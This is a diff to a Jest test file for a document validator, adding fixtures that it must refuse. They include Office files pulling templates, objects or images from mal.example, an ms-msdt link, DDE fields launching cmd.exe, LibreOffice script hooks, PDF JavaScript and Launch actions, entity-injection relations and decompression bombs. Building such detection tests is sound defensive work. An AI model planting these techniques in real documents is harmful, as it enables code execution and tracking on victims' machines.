@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { InvalidInput, sentenceIn } from '@passerelle/problems';
 import fc from 'fast-check';
+import { deflateSync } from 'node:zlib';
 import {
   anArchive,
   anOfficeDocument,
@@ -22,6 +23,207 @@ const ruleOf = async (bytes: Buffer): Promise<string> => {
 };
 const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
 
+const relation = (type: string, target: string, mode = 'External'): string =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+const related = (part: string, ...said: Parameters<typeof relation>): Buffer =>
+  anOfficeDocument('docx', { parts: { [part]: relation(...said) } });
+const saying = (document: string): Buffer =>
+  anOfficeDocument('docx', { parts: { 'word/document.xml': document } });
+const packedPdf = (objects: string, description = '/Type/ObjStm/Filter/FlateDecode'): Buffer =>
+  Buffer.concat([
+    aPdf().subarray(0, -6),
+    latin(`9 0 obj<<${description}/N 1/First 4>>stream\r\n`),
+    deflateSync(objects),
+    latin('\nendstream endobj\n%%EOF\n'),
+  ]);
+
+/** What acts when it is opened, and the rule that refuses it. */
+const actingDocuments: [rule: string, name: string, bytes: Buffer][] = [
+  [
+    'acting_document',
+    'an external template',
+    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://mal.example/t.dotm'),
+  ],
+  [
+    'acting_document',
+    'a template on a share',
+    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\mal.example\\t.dotm'),
+  ],
+  [
+    'acting_document',
+    'a template on a share, by numbers',
+    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///%5C%5Cmal.example/t.dotm'),
+  ],
+  [
+    'acting_document',
+    'a template in references to characters',
+    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://mal.example', '&#69;xternal'),
+  ],
+  [
+    'acting_document',
+    'a page in a frame',
+    related('word/_rels/webSettings.xml.rels', 'frame', 'C:\\page.html'),
+  ],
+  [
+    'acting_document',
+    'an object elsewhere',
+    related('word/_rels/document.xml.rels', 'oleObject', 'https://mal.example/!x'),
+  ],
+  [
+    'acting_document',
+    'a picture elsewhere',
+    related('word/_rels/document.xml.rels', 'image', 'https://mal.example/who.png'),
+  ],
+  [
+    'acting_document',
+    'a link that starts a program',
+    related('word/_rels/document.xml.rels', 'hyperlink', 'ms-msdt:/id x'),
+  ],
+  [
+    'acting_document',
+    'a document brought in',
+    related('word/_rels/document.xml.rels', 'aFChunk', 'part.html', 'Internal'),
+  ],
+  [
+    'acting_document',
+    'altChunk',
+    saying('<w:document><w:body><w:altChunk r:id="r1"/></w:body></w:document>'),
+  ],
+  [
+    'acting_document',
+    'DDE',
+    saying('<w:p><w:r><w:instrText> DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
+  ],
+  [
+    'acting_document',
+    'DDE in pieces',
+    saying(
+      '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:p>',
+    ),
+  ],
+  ['acting_document', 'DDE in a simple field', saying('<w:fldSimple w:instr="&#68;DE cmd x"/>')],
+  [
+    'acting_document',
+    'DDE in the foot',
+    anOfficeDocument('docx', { parts: { 'word/footer1.xml': '<x:instrText>dde cmd</x:instrText>' } }),
+  ],
+  [
+    'acting_document',
+    'DDE of Excel',
+    anOfficeDocument('xlsx', {
+      parts: {
+        'xl/externalLinks/externalLink1.xml':
+          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+      },
+    }),
+  ],
+  [
+    'acting_document',
+    'data that are fetched',
+    anOfficeDocument('xlsx', {
+      parts: { 'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>' },
+    }),
+  ],
+  [
+    'acting_document',
+    'a slide that starts a program',
+    anOfficeDocument('pptx', {
+      parts: { 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' },
+    }),
+  ],
+  [
+    'acting_document',
+    'DDE within a table within',
+    anOfficeDocument('docx', {
+      parts: { 'word/embeddings/t.docx': saying('<w:instrText>DDE cmd</w:instrText>') },
+    }),
+  ],
+  [
+    'acting_document',
+    'DDE of LibreOffice',
+    anOpenDocument('spreadsheet', {
+      'content.xml': '<x><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/></x>',
+    }),
+  ],
+  [
+    'acting_document',
+    'a script of LibreOffice',
+    anOpenDocument('text', {
+      'content.xml': '<x><script:event-listener xlink:href="vnd.sun.star.script:x.py$y?location=share"/></x>',
+    }),
+  ],
+  [
+    'acting_document',
+    'a picture elsewhere, of LibreOffice',
+    anOpenDocument('text', {
+      'content.xml': '<x><draw:image xlink:href="https://mal.example/who.png"/></x>',
+    }),
+  ],
+  [
+    'damaged',
+    'relations in two bytes a character',
+    anOfficeDocument('docx', {
+      parts: {
+        'word/_rels/settings.xml.rels': Buffer.from(
+          `\uFEFF${relation('attachedTemplate', 'https://mal.example')}`,
+          'utf16le',
+        ),
+      },
+    }),
+  ],
+  [
+    'damaged',
+    'a definition in the relations',
+    related(
+      'word/_rels/settings.xml.rels',
+      'attachedTemplate',
+      'x"/><!DOCTYPE x [<!ENTITY e "External">]><x y="',
+    ),
+  ],
+  [
+    'damaged',
+    'two parts that Office takes for one',
+    anOfficeDocument('docx', {
+      parts: { 'word/_rels/settings.xml.rels': 'x', 'Word/_rels/settings.xml.rels': 'x' },
+    }),
+  ],
+  [
+    'macros',
+    'a document with macros within',
+    anOfficeDocument('docx', {
+      parts: {
+        'word/embeddings/t.docm': anOfficeDocument('docx', { parts: { 'word/vbaProject.bin': 'x' } }),
+      },
+    }),
+  ],
+  ['acting_pdf', 'a PDF with a script', aPdf('x\n9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj')],
+  ['acting_pdf', 'a PDF with a script by numbers', aPdf('x\n9 0 obj<</S/J#61vaScrip#74/JS(x)>>endobj')],
+  ['acting_pdf', 'a PDF that starts a program', aPdf('x\n9 0 obj<</S /Launch/F(cmd.exe)>>endobj')],
+  ['acting_pdf', 'a form with scripts', aPdf('x\n9 0 obj<</AcroForm<</XFA 8 0 R>>>>endobj')],
+  ['acting_pdf', 'a script in packed objects', packedPdf('1 0 <</S/JavaScript/JS(x)>>')],
+  [
+    'acting_pdf',
+    'a script in packed objects that do not say what they are',
+    packedPdf('% x\n1 0 <</S/#4AavaScript/JS(x)>>', '/Filter/FlateDecode'),
+  ],
+  ['acting_pdf', 'a script behind many zeros', packedPdf(`1 0 ${' '.repeat(100_000)}<</S/JavaScript>>`)],
+  ['locked_pdf', 'a PDF that is encrypted', aPdf('x\ntrailer<</Encrypt 9 0 R>>')],
+  [
+    'locked_pdf',
+    'objects packed in another way',
+    Buffer.concat([aPdf(), latin('9 0 obj<</Type/ObjStm/Filter/ASCII85Decode>>stream\nabc~>endstream')]),
+  ],
+  [
+    'locked_pdf',
+    'objects whose description lies elsewhere',
+    Buffer.concat([
+      aPdf(),
+      latin(`9 0 obj<</Type/ObjStm/X(${'x'.repeat(2_000)})/Filter/LZWDecode>>stream\nabc`),
+    ]),
+  ],
+  ['bomb', 'packed objects that fill the memory', packedPdf(`1 0 ${' '.repeat(60_000_000)}`)],
+];
+
 describe('the type of a file', () => {
   it.each([
     ['pdf', aPdf()],
@@ -35,6 +237,26 @@ describe('the type of a file', () => {
     ['docx', anOfficeDocument('docx')],
     ['xlsx', anOfficeDocument('xlsx', { parts: { 'xl/printerSettings/printerSettings1.bin': 'x' } })],
     ['pptx', anOfficeDocument('pptx', { parts: { 'ppt/embeddings/classeur.xlsx': 'x' } })],
+    [
+      'docx',
+      related(
+        'word/_rels/settings.xml.rels',
+        'attachedTemplate',
+        'file:///C:\\Users\\jean\\Modèles\\Courrier.dotx',
+      ),
+    ],
+    ['docx', related('word/_rels/document.xml.rels', 'hyperlink', 'https://exemple.fr/devis?id=1')],
+    ['docx', saying('<w:p><w:instrText> PAGE </w:instrText><w:t>Aide-mémoire DDE</w:t></w:p>')],
+    ['docx', related('xl/externalLinks/_rels/x.rels', 'externalLinkPath', 'Tarifs%202026.xlsx')],
+    [
+      'odt',
+      anOpenDocument('text', {
+        'content.xml':
+          '<x><text:a xlink:href="https://exemple.fr"/><draw:image xlink:href="Pictures/1.png"/></x>',
+      }),
+    ],
+    ['pdf', packedPdf('1 0 <</Type/Page>>')],
+    ['pdf', packedPdf(`q ${'0'.repeat(100_000)} (HTML/JavaScript) Tj`, '/Filter/FlateDecode')],
     ['odt', anOpenDocument('text')],
     ['ods', anOpenDocument('spreadsheet')],
     ['odp', anOpenDocument('presentation')],
@@ -82,6 +304,7 @@ describe('the type of a file', () => {
       anOfficeDocument('docx', { parts: { 'word/embeddings/oleObject1.bin': 'x' } }),
     ],
     ['macros', 'macros of LibreOffice', anOpenDocument('text', { 'Basic/Standard/Module1.xml': 'x' })],
+    ...actingDocuments,
     ['bomb', 'a bomb', sayingThatPartsUnpackTo(2 ** 31, anOfficeDocument('docx'))],
     [
       'bomb',
